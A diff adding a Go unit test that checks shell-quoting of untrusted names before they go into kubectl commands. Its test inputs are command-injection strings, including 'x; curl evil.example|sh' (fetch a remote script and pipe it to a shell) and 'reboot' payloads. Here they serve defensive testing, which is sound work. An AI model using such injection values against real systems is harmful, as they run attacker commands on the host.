@@ -150,3 +150,25 @@ func TestCommandsNameTheirNamespaceAndObjects(t *testing.T) {
 		t.Error("an unknown reason has an advice")
 	}
 }
+
+func TestANameThatAStrangerChoseIsOneWordOfACommand(t *testing.T) {
+	for name, want := range map[string]string{
+		"web-0":                    "web-0",
+		"":                         "",
+		"x; curl evil.example|sh":  `'x; curl evil.example|sh'`,
+		"$(reboot)":                `'$(reboot)'`,
+		"it's":                     `'it'\''s'`,
+		"--all":                    `'all'`,
+		"a\nb\x1b[2J\u202e":        `'ab[2J'`,
+		"'; reboot; echo '":        `''\''; reboot; echo '\'''`,
+		"registry.example.com/a:1": "registry.example.com/a:1",
+	} {
+		if got := Word(name); got != want {
+			t.Errorf("%q: got %s, want %s", name, got, want)
+		}
+	}
+	a := Advice{Do: []string{"kubectl describe pod {pod} -n {namespace}"}}
+	if got := a.In(Place{Namespace: "shop", Pod: "x;reboot"})[0]; got != "kubectl describe pod 'x;reboot' -n shop" {
+		t.Error(got)
+	}
+}
